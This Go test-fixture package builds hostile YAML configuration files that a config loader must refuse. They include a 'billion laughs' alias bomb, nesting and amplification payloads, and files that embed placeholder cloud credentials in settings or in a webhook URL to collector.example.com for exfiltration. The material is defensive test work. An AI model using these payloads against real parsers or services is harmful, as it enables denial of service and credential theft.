// Package configtest holds hostile configuration files for tests: each
// one a way to exhaust memory or to carry a secret out through the
// configuration file, as found on the built binary (issue 23).
package configtest

import (
	"fmt"
	"strings"
)

// Secret values that the hostile files' environment holds: no output may
// carry a 12-byte run of any of them.
const (
	AccessKeyID     = "LTAI5tHostileKeyId9QxZ"
	AccessKeySecret = "hostileAccessKeySecretQ7w3e9r1t5y2u8i4"
	SecurityToken   = "CAIShostileSecurityTokenZ1x2c3v4b5n6m7"
	AuthToken       = "hostileHttpAuthTokenA1b2c3d4e5f6"
	HookSecret      = "SEChostileWebhookSecretP0o9i8u7"
	FCVar           = "hostileFunctionComputeValue0192"
)

// Env is the environment the hostile files run with: credentials as
// Function Compute injects them, the HTTP token, a webhook secret, and a
// health receiver (SLACK_WEBHOOK_URL, at the URL given) that must be told,
// without a secret, that the configuration is refused.
func Env(slackURL string) map[string]string {
	return map[string]string{
		"ALIBABA_CLOUD_ACCESS_KEY_ID":     AccessKeyID,
		"ALIBABA_CLOUD_ACCESS_KEY_SECRET": AccessKeySecret,
		"ALIBABA_CLOUD_SECURITY_TOKEN":    SecurityToken,
		"HTTP_AUTH_TOKEN":                 AuthToken,
		"HOOK_SECRET":                     HookSecret,
		"FC_ACCOUNT_ID":                   FCVar,
		"SLACK_WEBHOOK_URL":               slackURL,
	}
}

// Secrets are the values of Env that must never leave the process.
func Secrets() []string {
	return []string{AccessKeyID, AccessKeySecret, SecurityToken, AuthToken, HookSecret, FCVar}
}

// File is one hostile configuration file, and a word of the problem line
// it must give.
type File struct {
	Name string
	Data []byte
	// Want is a piece of the problem line that names what was refused.
	Want string
}

const head = "version: 1\nchannels:\n  - {id: \"cams-a1:239001\", name: Brand A}\n"

// Files returns the hostile files.
func Files() []File {
	return []File{
		{"alias-bomb.yaml", aliasBomb(), "alias"},
		{"deep-flow-sequence.yaml", []byte("version: 1\nreceivers: " + strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000) + "\n"), "nests deeper"},
		{"deep-flow-mapping.yaml", []byte("version: 1\nreceivers: " + strings.Repeat("{a: ", 60_000) + "x" + strings.Repeat("}", 60_000) + "\n"), "nests deeper"},
		{"deep-block-mapping.yaml", deepBlock(), "nests deeper"},
		{"amplification.yaml", amplification(), "alias"},
		{"many-aliases.yaml", manyAliases(), "alias"},
		{"secrets-in-settings.yaml", []byte(head + "timezone: \"${ALIBABA_CLOUD_ACCESS_KEY_SECRET}\"\nlanguage: \"${HTTP_AUTH_TOKEN}\"\nbudgetChangeThreshold: \"${HOOK_SECRET}\"\ncams: {region: \"${ALIBABA_CLOUD_ACCESS_KEY_ID}\", endpoint: \"${ALIBABA_CLOUD_SECURITY_TOKEN}\"}\nsnapshots: \"${FC_ACCOUNT_ID}\"\n"), "ALIBABA_CLOUD_ACCESS_KEY_SECRET"},
		{"credential-in-channel-name.yaml", []byte("version: 1\nchannels:\n  - {id: \"cams-a1:239001\", name: \"Brand ${ALIBABA_CLOUD_ACCESS_KEY_SECRET}\"}\n"), "ALIBABA_CLOUD_ACCESS_KEY_SECRET"},
		{"credential-in-url.yaml", []byte(head + "receivers:\n  - name: exfil\n    type: webhook\n    url: \"https://collector.example.com/h?k=${ALIBABA_CLOUD_ACCESS_KEY_SECRET}&t=${ALIBABA_CLOUD_SECURITY_TOKEN}\"\n"), "ALIBABA_CLOUD_ACCESS_KEY_SECRET"},
		{"token-outside-http.yaml", []byte(head + "receivers:\n  - name: t\n    type: webhook\n    url: \"https://hooks.example.com/h\"\n    secret: \"${HTTP_AUTH_TOKEN}\"\n"), "HTTP_AUTH_TOKEN"},
	}
}

// aliasBomb is "billion laughs": ten levels of ten aliases each.
func aliasBomb() []byte {
	var s strings.Builder
	s.WriteString("version: 1\nx0: &l0 [a, a, a, a, a, a, a, a, a, a]\n")
	for i := 1; i <= 9; i++ {
		fmt.Fprintf(&s, "x%d: &l%d [%s]\n", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*l%d, ", i-1), 10), ", "))
	}
	s.WriteString("receivers:\n  - name: bomb\n    type: slack\n    url: https://hooks.slack.com/services/T0/B0/x\n    channels: *l9\n")
	return []byte(s.String())
}

// deepBlock nests block mappings as deep as a megabyte allows.
func deepBlock() []byte {
	var b strings.Builder
	b.WriteString("version: 1\n")
	for i := 0; b.Len() < 1<<20-2000; i++ {
		b.WriteString(strings.Repeat(" ", i) + "a:\n")
	}
	return []byte(b.String())
}

// amplification is 13,000 receivers whose channels are one anchor of
// 1,000 channels: a valid file that expands to 13 million entries.
func amplification() []byte {
	var b strings.Builder
	b.WriteString("version: 1\nchannels:\n")
	for i := range 1000 {
		fmt.Fprintf(&b, "  - {id: \"c%d:%d\"}\n", i, i)
	}
	b.WriteString("receivers:\n  - {name: r0, type: slack, url: \"https://hooks.slack.com/services/T0/B0/x\", channels: &c [")
	for i := range 1000 {
		if i > 0 {
			b.WriteString(", ")
		}
		fmt.Fprintf(&b, "\"c%d:%d\"", i, i)
	}
	b.WriteString("]}\n")
	for i := 1; i < 13_000; i++ {
		fmt.Fprintf(&b, "  - {name: r%d, type: slack, url: x, channels: *c}\n", i)
	}
	return []byte(b.String())
}

// manyAliases is 150,000 aliases of one 400 KB channel name.
func manyAliases() []byte {
	var b strings.Builder
	b.WriteString("version: 1\nchannels:\n  - {id: \"cams-a1:239001\", name: &n " + strings.Repeat("N", 400_000) + "}\n")
	b.WriteString("receivers:\n  - {name: r, type: slack, url: x, channels: [")
	b.WriteString(strings.TrimSuffix(strings.Repeat("*n,", 150_000), ","))
	b.WriteString("]}\n")
	return []byte(b.String())
}
